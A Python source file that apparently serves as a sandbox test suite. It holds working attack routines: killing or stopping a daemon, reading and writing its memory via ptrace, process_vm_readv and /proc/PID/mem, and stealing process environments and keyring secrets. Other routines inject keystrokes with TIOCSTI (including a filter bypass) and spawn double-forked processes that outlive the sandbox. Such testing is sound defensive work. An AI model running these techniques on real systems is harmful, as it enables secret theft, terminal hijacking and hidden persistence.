# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Attacks on processes outside, on the terminal, on shared memory and keys, and attempts to outlive the run."""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import struct
import sys
import termios
import time
from pathlib import Path

from registry import MARK, add, attack, leaked, reported
import syscall_numbers as sys_call

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_PEEKDATA = 16, 17, 2


def canary_changed(stage) -> str:
    memory = stage.victim_memory(stage.victim.canary, 16)
    return "" if memory is None or memory.startswith(b"canary") else f"memory is {memory[:8]!r}"


def daemon_stopped(stage) -> str:
    state = stage.victim_state()
    return f"the daemon's state is `{state}`" if state in "TtZX" else ""


@attack("daemon", "kill the daemon by its process id", daemon_stopped)
def kill_daemon(t):
    t.each_daemon(lambda pid: os.kill(pid, signal.SIGKILL))


@attack("daemon", "stop the daemon by SIGSTOP", daemon_stopped)
def stop_daemon(t):
    t.each_daemon(lambda pid: os.kill(pid, signal.SIGSTOP))


@attack("daemon", "kill the daemon's process group", daemon_stopped)
def kill_group(t):
    t.each_daemon(lambda pid: os.killpg(os.getpgid(pid), signal.SIGKILL))


@attack("daemon", "kill the daemon through a pidfd", daemon_stopped)
def pidfd_kill(t):
    t.each_daemon(lambda pid: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))


@attack("daemon", "kill every process that can be signalled (kill -1)", daemon_stopped)
def kill_all(t):
    if t.isolated and os.getuid() != 0:
        os.kill(-1, signal.SIGKILL)


@attack("daemon", "kill the daemon with a SIGIO that a pipe sends (F_SETOWN, F_SETSIG)", daemon_stopped)
def kill_by_pipe(t):
    def arm(pid: int) -> None:
        reader, writer = os.pipe()
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, 10, signal.SIGKILL)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
        time.sleep(0.1)
    t.each_daemon(arm)


@attack("daemon", "kill the daemon with a 32-bit system call", daemon_stopped)
def i386_kill(t):
    t.each_daemon(lambda pid: t.helper("i386", "kill", pid))


@attack("daemon", "attach to the daemon with ptrace and read its secret", leaked("daemon"))
def ptrace_daemon(t):
    def attach(pid: int) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if libc.ptrace(PTRACE_ATTACH, pid, None, None):
            raise OSError(ctypes.get_errno(), "ptrace")
        os.waitpid(pid, 0x40000000)
        words = (libc.ptrace(PTRACE_PEEKDATA, pid, t.daemon["secret"] + at, None) for at in range(0, 64, 8))
        t.report(b"".join(struct.pack("q", word) for word in words))
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    t.each_daemon(attach)


def vectors(local, remote: int, length: int):
    return (struct.pack("QQ", ctypes.addressof(local), length), struct.pack("QQ", remote, length))


@attack("daemon", "read the daemon's memory with process_vm_readv", leaked("daemon"))
def process_vm_readv(t):
    def read(pid: int) -> None:
        local = ctypes.create_string_buffer(64)
        here, there = vectors(local, t.daemon["secret"], 64)
        t.call(sys_call.PROCESS_VM_READV, pid, here, 1, there, 1, 0)
        t.report(local.raw)
    t.each_daemon(read)


@attack("daemon", "write the daemon's memory with process_vm_writev", canary_changed)
def process_vm_writev(t):
    def write(pid: int) -> None:
        local = ctypes.create_string_buffer(MARK, 8)
        here, there = vectors(local, t.daemon["canary"], 5)
        t.call(sys_call.PROCESS_VM_WRITEV, pid, here, 1, there, 1, 0)
    t.each_daemon(write)


@attack("daemon", "read the daemon's memory through `/proc/PID/mem`", leaked("daemon"))
def proc_mem_read(t):
    def read(pid: int) -> None:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            memory.seek(t.daemon["secret"])
            t.report(memory.read(64))
    t.each_daemon(read)


@attack("daemon", "write the daemon's memory through `/proc/PID/mem`", canary_changed)
def proc_mem_write(t):
    def write(pid: int) -> None:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(t.daemon["canary"])
            memory.write(MARK)
    t.each_daemon(write)


@attack("daemon", "read the daemon's environment", leaked("environment"))
def proc_environment(t):
    t.each_daemon(lambda pid: t.report(Path(f"/proc/{pid}/environ").read_bytes()))


@attack("daemon", "read the environment of every visible process", leaked("environment"))
def proc_any_environment(t):
    for pid in t.visible_pids():
        try:
            t.report(Path(f"/proc/{pid}/environ").read_bytes())
        except OSError as error:
            t.note(error)


@attack("daemon", "read the daemon's command line", leaked("command-line"))
def proc_command_line(t):
    for pid in t.visible_pids() + [t.daemon["pid"]]:
        try:
            t.report(Path(f"/proc/{pid}/cmdline").read_bytes())
        except OSError as error:
            t.note(error)


@attack("daemon", "limit the daemon's open files with prlimit", lambda s: s.victim_limit_difference())
def prlimit_daemon(t):
    t.each_daemon(lambda pid: t.call(sys_call.PRLIMIT64, pid, 7, struct.pack("QQ", 3, 3), None))


@attack("daemon", "make the daemon the first victim of the out-of-memory killer", lambda s: s.victim_oom_difference())
def oom_score(t):
    t.each_daemon(lambda pid: Path(f"/proc/{pid}/oom_score_adj").write_text("999"))


@attack("daemon", "sample the daemon with perf_event_open", reported())
def perf_daemon(t):
    def sample(pid: int) -> None:
        # A software event (task clock) that counts in user space only.
        attributes = struct.pack("IIQQQQQ", 1, 112, 1, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64)
        t.call(sys_call.PERF_EVENT_OPEN, attributes, pid, -1, -1, 0)
        t.report(b"OK")
    if any(t.is_daemon(pid) for pid in t.daemon_pids()):
        t.each_daemon(sample)


# ---- terminal ----

def terminal_input(stage) -> str:
    return f"the terminal's input is {stage.terminal_input[:20]!r}" if MARK in stage.terminal_input else ""


def type_text(terminal: int, request: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for byte in MARK + b"\n":
        if libc.syscall(16, terminal, ctypes.c_ulong(request), ctypes.byref(ctypes.c_char(byte))):
            raise OSError(ctypes.get_errno(), "TIOCSTI")


@attack("terminal", "type into the user's terminal with TIOCSTI", terminal_input)
def tiocsti(t):
    type_text(0, termios.TIOCSTI)


@attack("terminal", "TIOCSTI with high bits set, past filters that compare 64 bits", terminal_input)
def tiocsti_high_bits(t):
    type_text(0, termios.TIOCSTI | 1 << 32)


@attack("terminal", "TIOCSTI through `/dev/tty`", terminal_input)
def tiocsti_dev_tty(t):
    type_text(os.open("/dev/tty", os.O_RDWR), termios.TIOCSTI)


@attack("terminal", "TIOCSTI after making the terminal the controlling one of a new session", terminal_input)
def tiocsti_new_session(t):
    if os.fork() == 0:
        try:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 1)
            type_text(0, termios.TIOCSTI)
        except OSError as error:
            t.note(error)
        # The end of a session's leader would discard the input.
        time.sleep(3)
        os._exit(0)
    time.sleep(0.3)


@attack("terminal", "write to another terminal of the user", lambda s: s.other_terminal_output())
def write_other_terminal(t):
    os.write(os.open(t.outside["other-terminal"], os.O_WRONLY | os.O_NOCTTY), MARK)


@attack("terminal", "read what the user types into another terminal", leaked("typed"))
def read_other_terminal(t):
    other = os.open(t.outside["other-terminal"], os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
    t.report(os.read(other, 200))


# ---- shared memory and keys ----

@attack("shared memory", "read a System V shared memory segment", leaked("sysv"))
def sysv_read(t):
    t.report(t.attach_shared_memory(t.outside["sysv-key"]).raw)


@attack("shared memory", "write a System V shared memory segment", lambda s: s.shared_memory_difference())
def sysv_write(t):
    segment = t.attach_shared_memory(t.outside["sysv-key"])
    segment[: len(MARK)] = MARK


@attack("shared memory", "read a POSIX shared memory file", leaked("posix-memory"))
def posix_memory_read(t):
    t.report(Path(t.outside["posix-memory"]).read_bytes())


@attack("shared memory", "write a POSIX shared memory file",
        lambda s: "the file was changed" if MARK in s.outside_file("posix-memory") else "")
def posix_memory_write(t):
    Path(t.outside["posix-memory"]).write_bytes(MARK)


def read_key(t, keyring: int, name: str) -> bytes:
    key = t.call(sys_call.KEYCTL, 10, keyring, b"user", name.encode(), 0)
    text = ctypes.create_string_buffer(200)
    t.call(sys_call.KEYCTL, 11, key, text, 200)
    return text.raw


for _ring, _number in (("session", -3), ("user", -4)):
    add(f"key-{_ring}-read", "keys", f"read a secret in the {_ring} keyring",
        lambda t, r=_ring, n=_number: t.report(read_key(t, n, f"{t.run_id}-{r}")), leaked(f"key-{_ring}"))


@attack("keys", "replace a secret in the session keyring", lambda s: s.session_key_difference())
def key_session_update(t):
    t.call(sys_call.ADD_KEY, b"user", f"{t.run_id}-session".encode(), MARK, len(MARK), -3)


# ---- outlive the run ----

def survived(stage) -> str:
    return "a process still runs after the sandbox ended" if stage.heartbeat_continues() else ""


def beat(t) -> None:
    """Start the program that writes to a file every 50 ms, in this process."""
    null = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    os.execv(sys.executable, [sys.executable, *t.heartbeat_command])


def fork_chain(t, depth: int) -> None:
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(depth):
        if os.fork():
            os._exit(0)
        os.setsid()
    beat(t)


def in_child(action) -> None:
    if os.fork() == 0:
        try:
            action()
        finally:
            os._exit(0)
    time.sleep(0.5)


@attack("outlive", "a daemon (double fork, setsid, signals ignored)", survived)
def outlive_daemon(t):
    in_child(lambda: fork_chain(t, 2))


@attack("outlive", "64 nested forks, each in a new session", survived)
def outlive_deep(t):
    in_child(lambda: fork_chain(t, 64))
    time.sleep(0.5)


@attack("outlive", "a child in the background, in the same process group", survived)
def outlive_background(t):
    in_child(lambda: beat(t))


@attack("outlive", "a child in new user and process namespaces", survived)
def outlive_namespaces(t):
    def start() -> None:
        t.new_namespaces(user=True, pid=True)
        fork_chain(t, 1)
    in_child(start)


@attack("outlive", "a daemon continues after the wrapper gets SIGKILL", survived, launch={"kill-wrapper"})
def outlive_killed_wrapper(t):
    in_child(lambda: fork_chain(t, 2))
    t.report(b"ready")
    time.sleep(10)


@attack("outlive", "a daemon continues after the wrapper gets SIGTERM", survived, launch={"terminate-wrapper"})
def outlive_terminated_wrapper(t):
    in_child(lambda: fork_chain(t, 2))
    t.report(b"ready")
    time.sleep(10)


@attack("outlive", "the attacker itself continues after the wrapper gets SIGKILL", survived, launch={"kill-wrapper"})
def outlive_command(t):
    in_child(lambda: beat(t))
    t.report(b"ready")
    time.sleep(10)


# ---- system calls that a sandbox may as well refuse ----

def surface(summary: str):
    return attack("kernel surface", summary, reported(), kind="surface")


@surface("create a user namespace")
def user_namespace(t):
    t.new_namespaces(user=True)
    t.report(b"OK")


@surface("create user and mount namespaces and mount a tmpfs there")
def mount_in_user_namespace(t):
    t.new_namespaces(user=True, mount=True)
    t.libc("mount", b"none", bytes(t.project), b"tmpfs", 0, None)
    t.report(b"OK")


@surface("create user and network namespaces")
def network_namespace(t):
    t.new_namespaces(user=True, network=True)
    t.report(b"OK")


@surface("set up an io_uring")
def io_uring_setup(t):
    t.call(sys_call.IO_URING_SETUP, 4, bytes(120))
    t.report(b"OK")


@surface("make 32-bit system calls")
def i386_calls(t):
    t.report(t.helper("i386", "read", "/proc/self/comm") and b"OK")


@surface("create a BPF map")
def bpf_map(t):
    attributes = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)
    t.call(sys_call.BPF, 0, attributes, len(attributes))
    t.report(b"OK")


@surface("count kernel events with perf_event_open")
def perf_kernel(t):
    t.call(sys_call.PERF_EVENT_OPEN, struct.pack("IIQQQQQ", 1, 112, 1, 0, 0, 0, 0) + bytes(64), -1, 0, -1, 0)
    t.report(b"OK")


@surface("count events of the own process with perf_event_open")
def perf_self(t):
    attributes = struct.pack("IIQQQQQ", 1, 112, 1, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64)
    t.call(sys_call.PERF_EVENT_OPEN, attributes, 0, -1, -1, 0)
    t.report(b"OK")


@surface("open a userfaultfd that handles faults in the kernel")
def userfaultfd(t):
    t.call(sys_call.USERFAULTFD, 0)
    t.report(b"OK")


@surface("open a userfaultfd for user-space faults")
def userfaultfd_user(t):
    t.call(sys_call.USERFAULTFD, 1)
    t.report(b"OK")


@surface("open a fanotify group with permission events")
def fanotify_permission(t):
    t.call(sys_call.FANOTIFY_INIT, 4, 0)
    t.report(b"OK")


@surface("add a key")
def add_key(t):
    t.call(sys_call.ADD_KEY, b"user", b"attack", MARK, len(MARK), -2)
    t.report(b"OK")


@surface("read the kernel log with syslog(2)")
def kernel_log(t):
    text = ctypes.create_string_buffer(4096)
    t.call(103, 3, text, 4096)
    t.report(b"OK")


@surface("read the kernel log through `/dev/kmsg`")
def dev_kmsg(t):
    os.read(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK), 8192)
    t.report(b"OK")


@surface("trace an own child with ptrace")
def ptrace_child(t):
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    attached = libc.ptrace(PTRACE_ATTACH, child, None, None) == 0
    os.kill(child, signal.SIGKILL)
    if attached:
        t.report(b"OK")


for _device in ("mem", "port", "kvm", "fuse", "net/tun", "loop-control", "uinput", "vsock", "vhost-net"):
    def _open(t, device=_device) -> None:
        os.open(f"/dev/{device}", os.O_RDWR)
        t.report(b"OK")
    add(f"device-{_device.replace('/', '-')}", "kernel surface", f"open `/dev/{_device}`", _open, reported(), kind="surface")
